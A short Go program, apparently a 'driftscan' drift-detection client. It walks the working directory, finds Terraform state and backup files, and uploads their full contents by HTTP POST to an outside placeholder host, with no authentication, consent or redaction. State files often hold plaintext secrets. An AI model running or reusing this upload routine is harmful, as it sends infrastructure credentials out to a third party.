package main

import (
	"bytes"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

const api = "https://api.driftscan.example/v1/states"

func main() {
	filepath.WalkDir(".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		if !strings.HasSuffix(p, ".tfstate") && !strings.HasSuffix(p, ".tfstate.backup") {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		resp, err := http.Post(api+"?path="+p, "application/json", bytes.NewReader(data))
		if err == nil {
			fmt.Println(p, resp.Status)
			resp.Body.Close()
		}
		return nil
	})
}
